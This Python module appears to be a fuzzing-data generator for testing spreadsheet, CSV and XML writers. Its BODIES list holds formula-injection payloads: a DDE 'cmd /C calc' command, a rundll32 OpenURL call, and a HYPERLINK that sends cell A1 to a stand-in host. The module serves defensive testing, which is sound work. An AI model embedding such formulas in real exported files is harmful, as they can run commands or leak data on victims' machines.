"""Texts that break writers: formulas, marks of XML and of escapes, letters of every direction and size."""

from __future__ import annotations

import random
from collections.abc import Iterator

STARTS = ("=", "+", "-", "@", "\t=", "\n=", "＝", "＋", "－", "＠", "=+", "'=", "''", "-=", "@@")
BODIES = (
    "1+1",
    'cmd|" /C calc"!A0',
    'HYPERLINK("http://example.invalid/?"&A1,"Open")',
    "SUM(A1:A9)",
    "IMPORTXML(A1,B1)",
    "WEBSERVICE(A1)",
    "rundll32|'URL.dll,OpenURL x'!A",
    'DDE("soffice";"x")',
    "-1",
    "A1",
    "'Sheet 1'!A1",
    "{=1}",
)
NOBODYS_NUMBER = "00123"
"""Twice in a row it is a telephone number, and taken out of reports as one."""
PIECES = (
    "<&>",
    "]]>",
    "&amp;",
    "_x0041_",
    "_x005F_",
    "_x000D_",
    "x005F_",
    "#N/A",
    "#REF!",
    "TRUE",
    "1e400",
    NOBODYS_NUMBER,
    "2022-01-03",
    "3/1/22",
    '"',
    '""',
    "'",
    ",",
    ";",
    "\t",
    "\n",
    "\n\n",
    " ",
    "  ",
    "\N{NO-BREAK SPACE}",
    "\N{LINE SEPARATOR}",
    "\N{NEXT LINE}",
    "\N{ZERO WIDTH JOINER}",
    "\N{RIGHT-TO-LEFT OVERRIDE}",
    "\N{SOFT HYPHEN}",
    "\N{ZERO WIDTH NO-BREAK SPACE}",
    "👩‍👧‍👦",
    "🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "𝔘𝔫𝔦",
    "e\u0301",
    "نص عربي",
    "עברית",
    "中文",
    "ß",
    "ﬁ",
    "\\",
    "%s{}$",
    "NULL",
    "plain words",
)


def payloads(number: int) -> Iterator[str]:
    """So many different texts that a spreadsheet program would like to run."""
    made = 0
    for turn in range(number):
        for start in STARTS:
            for body in BODIES:
                if made == number:
                    return
                made += 1
                yield f"{start}{body}" + (f" {turn}" if turn else "")


def strings(number: int, seed: int = 47) -> Iterator[str]:
    """So many different awkward texts; the same for the same seed."""
    dice, seen = random.Random(seed), set[str]()
    while len(seen) < number:
        text = "".join(dice.choices(PIECES, k=dice.randint(1, 6)))
        if text not in seen and text.strip() and NOBODYS_NUMBER * 2 not in text:
            seen.add(text)
            yield text
